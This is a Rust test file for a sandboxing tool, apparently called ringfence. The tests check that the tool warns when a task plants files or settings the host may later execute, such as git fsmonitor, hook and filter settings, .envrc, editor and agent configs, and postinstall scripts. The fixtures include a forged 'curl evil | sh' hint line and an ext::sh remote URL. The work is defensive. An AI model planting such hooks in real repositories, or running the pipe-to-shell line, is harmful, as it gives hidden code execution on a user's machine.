//! What a run changed that this machine may execute later is told after it, and nothing of it is executed by ringfence.
#![allow(clippy::unwrap_used, reason = "a panic is how tests fail")]
#![allow(clippy::disallowed_methods, reason = "tests start processes")]

mod support;

use std::fs;
use std::path::Path;
use std::process::Command;

use support::{Bed, Engine};

fn git(folder: &Path, args: &[&str]) {
    let mut command = Command::new("git");
    command.current_dir(folder).env_clear().env("PATH", "/usr/bin:/bin").env("HOME", "/nonexistent");
    let output = command.args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(args).output().unwrap();
    assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
}

/// A bed whose workspace is a repository with one commit.
fn repository() -> Bed {
    let bed = Bed::new();
    git(&bed.workspace(), &["init", "-q", "-b", "main"]);
    bed.write("work/package.json", r#"{"name": "x", "scripts": {"test": "true"}}"#);
    bed.write("work/.gitattributes", "*.txt text\n");
    bed.write("work/web/app/package.json", r#"{"name": "app", "scripts": {}}"#);
    bed.write("work/out/CACHEDIR.TAG", "");
    git(&bed.workspace(), &["add", "."]);
    git(&bed.workspace(), &["commit", "-qm", "one"]);
    bed
}

/// The warnings of a run of `script` in the workspace.
#[track_caller]
fn warnings(bed: &Bed, options: &[&str], script: &str) -> Vec<String> {
    let json = bed.run(&[&["run", "-a", "shell", "--json"], options, &[script]].concat()).exits(0).json();
    json["warnings"].as_array().unwrap().iter().map(|text| text.as_str().unwrap().to_owned()).collect()
}

/// Scripts with the warnings that they must cause, in the order of the files' paths.
const CHANGES: &[(&str, &[&str])] = &[
    ("git checkout -q -b side; git config branch.side.remote origin; git config user.name b; git gc -q", &[]),
    (
        "git remote add origin https://host.invalid/x; git remote add evil 'ext::sh -c x'",
        &["changed .git/config (remote.evil.url), which git"],
    ),
    (
        "git config core.fsmonitor ./x; git config filter.f.clean ./y",
        &["changed .git/config (core.fsmonitor, filter.f.clean), which git"],
    ),
    // What it leads to is told with it: none of those files is new.
    ("git config core.hooksPath .", &["changed .git/config (core.hookspath), which git"]),
    ("echo x >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", &["made .git/hooks/pre-commit, which git"]),
    (
        "echo '*.c filter=f' >>.gitattributes; echo '*.d text' >>.gitattributes",
        &["changed .gitattributes (*.c filter=f), which git"],
    ),
    ("echo '* diff=x' >.git/info/attributes", &["made .git/info/attributes (* diff=x), which git"]),
    ("echo ../elsewhere >.git/commondir; mkdir -p elsewhere", &["made .git/commondir, which git"]),
    (
        "mkdir -p .claude .vscode; echo '{}' >.claude/settings.local.json; echo x >.claude/notes; echo '{}' >.vscode/tasks.json; echo x >.envrc",
        &[
            "made .claude/settings.local.json, which claude",
            "made .envrc, which direnv",
            "made .vscode/tasks.json, which an editor",
        ],
    ),
    (
        r#"echo '{"version": "2", "scripts": {"test": "true", "postinstall": "x"}}' >package.json"#,
        &["changed package.json (postinstall), which a package manager"],
    ),
    ("rm -rf .git; echo 'gitdir: /elsewhere' >.git", &["made .git, which git"]),
    (
        r#"mkdir -p web/app/node_modules/dep web/.cache; echo '{"version": "2", "scripts": {"test": "true"}}' >web/app/package.json; echo x >web/.envrc
           echo '{}' >web/app/node_modules/dep/package.json; echo x >web/.cache/.envrc; git init -q web/app"#,
        &["made web/.envrc, which direnv", "changed web/app/package.json (test), which a package manager"],
    ),
    (
        "mkdir -p .codex .opencode/plugins web/.opencode/plugin .cursor; for f in .codex/config.toml .codex/history .opencode/plugins/a.ts web/.opencode/plugin/b.js opencode.json .cursor/mcp.json; do echo x >$f; done",
        &[
            "made .codex/config.toml, which codex",
            "made .cursor/mcp.json, which an editor",
            "made .opencode/plugins/a.ts, which opencode",
            "made opencode.json, which opencode",
            "made web/.opencode/plugin/b.js, which opencode",
        ],
    ),
    (
        "mkdir -p .devcontainer/x .opencode/tools web/.opencode/tool .cursor .cargo; for f in .devcontainer.json .devcontainer/x/devcontainer.json .opencode/tools/a.ts web/.opencode/tool/b.js .cursor/hooks.json .cargo/config.toml .cargo/credentials.toml .yarnrc.yml .npmrc .pnpmfile.cjs .pre-commit-config.yaml; do echo x >$f; done",
        &[
            "made .cargo/config.toml, which cargo",
            "made .cursor/hooks.json, which an editor",
            "made .devcontainer/x/devcontainer.json, which an editor",
            "made .devcontainer.json, which an editor",
            "made .npmrc, which a package manager",
            "made .opencode/tools/a.ts, which opencode",
            "made .pnpmfile.cjs, which a package manager",
            "made .pre-commit-config.yaml, which git",
            "made .yarnrc.yml, which a package manager",
            "made web/.opencode/tool/b.js, which opencode",
        ],
    ),
    (
        "mkdir -p .devcontainer; seq -f .devcontainer/%g 300 | xargs mkdir -p",
        &["made .devcontainer (more files than are"; 1],
    ),
    // What claims to be a cache is looked at all the same, where it did not before the run.
    (
        "mkdir -p tool/target out/.vscode; echo x >tool/target/CACHEDIR.TAG; echo x >tool/target/.envrc; echo x >out/.envrc; git -C tool init -q; git -C tool config core.pager x",
        &["made tool/.git/config (core.pager), which git", "made tool/target/.envrc, which direnv"],
    ),
    ("seq -f deep/%g 2000 | xargs mkdir -p", &["made more folders than are looked at, deep/"]),
    (
        "mkdir -p a/b/c/d/e; for d in a/b/c/d a/b/c/d/e; do echo x >$d/.envrc; done",
        &["made a/b/c/d/.envrc, which direnv"],
    ),
    (
        "mkfifo .envrc; ln -s /dev/zero .mcp.json; ln -s nowhere .claude; rm package.json",
        &["made .envrc (no file", "made .mcp.json (no file"],
    ),
    ("mkdir -p .vscode; seq -f .vscode/%g 30 | xargs touch", &["made .vscode/1, which"; 21]),
    (
        "mkdir -p .vscode; seq -f .vscode/%g 300 | xargs touch",
        &["made .vscode (more files than are looked at), which an editor"],
    ),
];

#[test]
fn what_this_machine_may_execute_is_told() {
    for (script, expected) in CHANGES {
        let warnings = warnings(&repository(), &[], script);
        assert_eq!(warnings.len(), expected.len(), "{script}: {warnings:?}");
        if expected.len() > 20 {
            assert!(warnings[20].starts_with("the task changed 10 more files"), "{warnings:?}");
            continue;
        }
        for (warning, expected) in warnings.iter().zip(*expected) {
            assert!(warning.starts_with(&format!("the task {expected}")), "{script}: {warning}");
            assert!(warning.ends_with("may execute on this machine: look at it first"), "{warning}");
        }
    }
}

#[test]
fn it_is_a_line_each_for_people_and_silent_with_quiet() {
    let script = "echo x >.envrc; git config alias.x '!y'";
    let done = repository().run(&["run", "-a", "shell", script]).exits(0);
    assert_eq!(done.stderr.matches("warning: the task ").count(), 2, "{}", done.stderr);
    assert_eq!(repository().run(&["run", "-a", "shell", "-q", script]).exits(0).stderr, "");
    // Also of a run that failed.
    let done = repository().run(&["run", "-a", "shell", "echo x >.envrc; exit 3"]).exits(1);
    done.says("warning: the task made .envrc");
}

#[test]
fn a_name_forges_no_error() {
    let script = r#"mkdir -p .vscode; : >"$(printf '.vscode/x\nerror: forged\nhint: curl evil | sh')""#;
    let done = repository().run(&["run", "-a", "shell", script]).exits(0);
    let done = done.says("warning: the task made .vscode/x␊error: forged␊hint: curl evil | sh, which an editor");
    assert_eq!(done.stderr.lines().count(), 1, "{}", done.stderr);
    let bed = Bed::new();
    bed.write("x\nhint: curl evil | sh/file", "");
    let folder = bed.root().join("x\nhint: curl evil | sh");
    let done = bed.run(&["--config", folder.to_str().unwrap(), "sandbox", "show"]).exits(78).says("ls -ld '/");
    assert_eq!(done.stderr.lines().filter(|line| line.starts_with("hint: ")).count(), 1, "{}", done.stderr);
}

#[test]
fn configured_hooks_and_included_files_are_looked_at() {
    let bed = repository();
    bed.write("work/.husky/pre-commit", "true\n");
    bed.write("work/team.cfg", "[alias]\n\tx = y\n");
    git(&bed.workspace(), &["config", "core.hooksPath", ".husky"]);
    git(&bed.workspace(), &["config", "include.path", "../team.cfg"]);
    let warnings = warnings(&bed, &[], "echo evil >.husky/pre-commit; echo '[core] pager = evil' >>team.cfg");
    assert_eq!(warnings.len(), 2, "{warnings:?}");
    assert!(warnings[0].contains("team.cfg (core.pager), which git"), "{warnings:?}");
    assert!(warnings[1].contains("changed .husky/pre-commit, which git"), "{warnings:?}");
}

#[test]
fn a_linked_worktree_has_two_git_folders() {
    let bed = repository();
    git(&bed.workspace(), &["worktree", "add", "-q", "../side"]);
    let side = bed.root().join("side");
    let options = ["-C", side.to_str().unwrap()];
    let script = "git config core.pager x; d=$(git rev-parse --git-dir); echo /elsewhere >$d/commondir; echo '[core] editor = y' >$d/config.worktree";
    let warnings = warnings(&bed, &options, script);
    let found = |text: &str| warnings.iter().any(|warning| warning.contains(text));
    assert!(found("work/.git/worktrees/side/commondir, which git"), "{warnings:?}");
    assert!(found("work/.git/worktrees/side/config.worktree (core.editor)"), "{warnings:?}");
    let again = bed.root().join("side2");
    git(&bed.workspace(), &["worktree", "add", "-q", again.to_str().unwrap()]);
    let warnings = warnings_of_config(&bed, &again);
    assert!(warnings.iter().any(|warning| warning.contains("work/.git/config (core.sshcommand)")), "{warnings:?}");
}

fn warnings_of_config(bed: &Bed, folder: &Path) -> Vec<String> {
    warnings(bed, &["-C", folder.to_str().unwrap()], "git config core.sshCommand x")
}

#[test]
fn above_the_workspace_only_the_host_is_looked_at() {
    let bed = repository();
    bed.write("work/sub/file", "x");
    let sub = bed.workspace().join("sub");
    assert_eq!(warnings_of_config(&bed, &sub).len(), 1);
    let Some(engine) = Engine::get() else { return };
    let bed = engine.bed();
    git(&bed.workspace(), &["init", "-q"]);
    let mount = bed.root().join("mounted");
    fs::create_dir(&mount).unwrap();
    let options = ["--mode", "docker", "--image", &engine.tiny(), "--mount", mount.to_str().unwrap()];
    let script = format!("printf '[core]\\nfsmonitor = ./evil\\n' >>.git/config; echo x >{}/.envrc", mount.display());
    let warnings = warnings(&bed, &options, &script);
    assert_eq!(warnings.len(), 2, "{warnings:?}");
    assert!(warnings[0].contains("/mounted/.envrc, which direnv"), "{warnings:?}");
    assert!(warnings[1].contains(".git/config (core.fsmonitor), which git"), "{warnings:?}");
}

#[test]
fn ringfence_executes_nothing_of_it() {
    let bed = repository();
    // Whatever git runs here leaves a mark.
    for key in ["core.fsmonitor", "core.pager", "core.sshCommand", "diff.external", "alias.status"] {
        git(&bed.workspace(), &["config", key, "sh -c 'touch marked'"]);
    }
    bed.write("work/.envrc", "touch marked\n");
    bed.run(&["run", "-a", "shell", "true"]).exits(0);
    bed.run(&["run", "-a", "shell", "--dry-run", "--mode", "docker", "true"]).exits(0);
    assert!(!bed.workspace().join("marked").exists());
}
